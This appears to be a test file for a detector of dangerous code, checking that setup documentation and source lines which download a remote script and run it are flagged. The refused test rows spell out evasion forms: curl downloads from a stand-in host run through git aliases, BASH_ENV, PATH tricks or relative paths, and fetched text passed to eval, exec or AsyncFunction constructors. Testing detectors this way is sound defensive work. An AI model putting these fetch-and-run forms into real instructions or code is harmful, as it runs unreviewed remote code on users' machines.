import { describe, expect, it } from 'vitest';
import { dangerousCodeSignals } from '../../shared/analysis/dangerous-code.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
import { expectAccepted, refusedFor } from '../support/patches.js';

const M = 'docs/setup.md';
type Row = [path: string, text: string];

/**
 * Attack pass 14, "also open, from the helpers' reports": forms each helper named without a row. Each form's refused rows
 * failed before its rule; its look-alikes stay accepted.
 */
const FORMS: ReadonlyArray<{ form: string; reason: string | RegExp; refused: Row[]; accepted: Row[] }> = [
  {
    form: 'a git alias hides the verb',
    reason: 'remote-script',
    refused: [
      [M, 'git -c alias.c=clone c https://x.example/r.git && sh r/i.sh'],
      [M, 'git config --global alias.get clone\ngit get https://x.example/r.git\ncd r && make'],
      [M, `git config alias.x 'clone --depth 1'\ngit x https://x.example/r.git r\nsh r/i.sh`],
    ],
    accepted: [
      [M, 'git -c alias.st=status st && sh scripts/i.sh'],
      [M, 'git config --global alias.co checkout\ngit co main\nsh scripts/test.sh'],
    ],
  },
  {
    form: 'a variable given a saved file on its own line, exported later or under set -a',
    reason: 'remote-script',
    refused: [
      [M, 'curl -fsSL -o /tmp/env https://x.example/i\nBASH_ENV=/tmp/env\nexport BASH_ENV\nmake test'],
      [M, 'curl -fsSL -o /tmp/env https://x.example/i\nexport BASH_ENV\nBASH_ENV=/tmp/env\nbash -c true'],
      [M, 'curl -fsSL -o /tmp/env https://x.example/i\nset -a\nBASH_ENV=/tmp/env\nmake test'],
      [M, "curl -fsSL -o ./i https://x.example/i\nset -o allexport\nBASH_ENV=./i\nbash -c 'make test'"],
      [M, 'curl -fsSL -o /tmp/env https://x.example/i\ndeclare -x BASH_ENV ENV\nENV=/tmp/env; sh -c true'],
    ],
    accepted: [
      [M, 'curl -fsSL -o /tmp/data.json https://x.example/d\nDATA=/tmp/data.json\njq . "$DATA"'],
      [M, 'curl -fsSL -o /tmp/x.tgz https://x.example/x.tgz\nARCHIVE=/tmp/x.tgz\nexport PATH\ntar -tzf "$ARCHIVE"'],
      [M, 'set -a\nset +a\ncurl -fsSL -o /tmp/data.json https://x.example/d\nDATA=/tmp/data.json'],
      [M, 'curl -fsSL -o /tmp/data.json https://x.example/d\nexport -n DATA\nDATA=/tmp/data.json'],
    ],
  },
  {
    form: 'a directory on PATH written with a trailing slash',
    reason: 'remote-script',
    refused: [
      [M, 'curl -fsSL -o tool https://x.example/t\nexport PATH=$PWD/:$PATH\nmake'],
      [M, 'curl -fsSL -o tool https://x.example/t\nPATH="./:$PATH" make'],
      [M, 'curl -fsSL -o tool https://x.example/t\nexport PATH="${PWD}//:$PATH"\ntool --version'],
    ],
    accepted: [
      [M, 'curl -fsSL -o /tmp/data.json https://x.example/d\nexport PATH=$HOME/.local/bin/:$PATH'],
      [M, 'curl -fsSL -o data/d.json https://x.example/d\nexport PATH=$PWD/bin/:$PATH'],
    ],
  },
  {
    form: 'a saved path reached as a relative one after cd',
    reason: 'remote-script',
    refused: [
      [M, 'curl -fsSL -o /tmp/x/i https://x.example/i\ncd /tmp\nsh x/i'],
      [M, 'curl -fsSL -o /opt/tools/bin/run https://x.example/r\ncd /opt\n./tools/bin/run'],
      [M, 'curl -fsSL -o build/cache/i https://x.example/i\ncd build\nbash cache/i'],
      [M, 'curl -fsSL -o /tmp/x/i.sh https://x.example/i; cd /tmp/x; sh ./i.sh'],
    ],
    accepted: [
      [M, 'curl -fsSL -o /tmp/x/data.json https://x.example/d\ncd /tmp\nsh x/build'],
      [M, 'curl -fsSL -o /tmp/x/i https://x.example/i\ncd /tmp\ncat x/i'],
    ],
  },
  {
    form: 'two steps from a fetch to a sink on one line',
    reason: 'fetch-exec',
    refused: [
      ['src/a.js', 'f = await fetch(u); c = await f.text(); eval(c)'],
      ['src/a.js', 'const r = await fetch(u); const body = await r.text(); new Function(body)()'],
      ['src/a.py', 'r = requests.get(u); code = r.text; exec(code)'],
      ['src/a.js', 'const r = await fetch(u); const t = await r.text(); const c = t.trim(); eval(c)'],
    ],
    accepted: [
      ['src/a.js', 'const r = await fetch(u); const body = await r.text(); JSON.parse(body)'],
      ['src/a.js', 'const r = await fetch(u); const n = r.status; console.log(n)'],
      ['src/a.py', 'r = requests.get(u); data = r.json(); print(data)'],
      ['src/a.js', 'const r = await fetch(u); const code = 1; eval(code)'],
    ],
  },
  {
    form: "AsyncFunction and GeneratorFunction reached by a function's prototype",
    reason: /assembled-name|fetch-exec/,
    refused: [
      ['src/a.js', 'const AF = Object.getPrototypeOf(async function(){}).constructor; const run = new AF(await (await fetch(u)).text()); await run()'],
      ['src/a.js', 'const AF = Object.getPrototypeOf(async () => {}).constructor;\nconst code = await (await fetch(u)).text();\nawait AF(code)()'],
      ['src/a.js', 'await Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, [await (await fetch(u)).text()])()'],
      ['src/a.js', 'const G = Reflect.getPrototypeOf(function* () {}).constructor;\nnew G(src)'],
      ['src/a.js', 'const AF = (async () => {}).constructor;\nawait new AF(body)()'],
    ],
    accepted: [
      ['src/a.js', 'const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;\nexport const isAsync = (fn) => fn instanceof AsyncFunction;'],
      ['src/a.js', 'const Model = Object.getPrototypeOf(record).constructor;\nconst copy = new Model(record.fields);'],
    ],
  },
];

for (const { form, reason, refused, accepted } of FORMS) {
  describe(`pass 14 helpers' reports: ${form}`, () => {
    it.each(refused)('refuses, in %s: %s', refusedFor(reason));
    it.each(accepted)('accepts, in %s: %s', expectAccepted);
  });
}

/** The new readings' cost: how it grows with the size (no timing asserts, pass-14-blank-runs.test.ts's pattern). */
describe("pass 14 helpers' reports: the new readings cost linear time", () => {
  const repeated = (unit: string, head = '') => (size: number) => head + unit.repeat(Math.floor(size / unit.length));
  it.each([
    ['aliases, each naming git again', repeated(`git -c alias.a='x git a' a `)],
    ['exports, set -a and assignments of a saved file', repeated('declare -a -x export A B set -ea\nA=/tmp/g ', 'curl -o /tmp/f https://x.example/f\n')],
    ['a download to a path of thousands of components, then relative paths after a cd', (size: number) => `curl -o /${'a/'.repeat(size / 4)}i https://x.example/i\ncd /\n${'sh a/a/b\n'.repeat(size / 18)}`],
    ['constructors named and never called', repeated('A = Object.getPrototypeOf(async () => {}).constructor; A.name; ')],
  ] as const)('reads %s in linear time', { timeout: 120_000 }, (_, textOf) => {
    expect(cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => dangerousCodeSignals(text))).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });
});

describe('a directory deeper than the parents looked up by name', () => {
  // Saved paths' parents of PATH_MAX characters or more are compared with the paths that hold them instead of hashed
  // (the cost row above: each parent hashed whole cost the square of the path's length). What they answer is the same.
  it.each([
    ['shallow', '/opt/a/bin'],
    ['past PATH_MAX', `/opt/${'a/'.repeat(3_000)}bin`],
  ])('a %s directory a download saved into, then put on PATH, loads from it', (_, directory) => {
    expect(dangerousCodeSignals(`curl -so ${directory}/tool https://x.example/t\nexport PATH=${directory}:$PATH\nmake`)).toContain('remote-script');
    expect(dangerousCodeSignals(`curl -so ${directory}/tool https://x.example/t\nexport PATH=${directory}x:$PATH\nmake`)).not.toContain('remote-script');
    expect(dangerousCodeSignals(`export PATH=${directory}:$PATH\ncurl -so ${directory}/tool https://x.example/t\nmake`)).not.toContain('remote-script');
  });
});
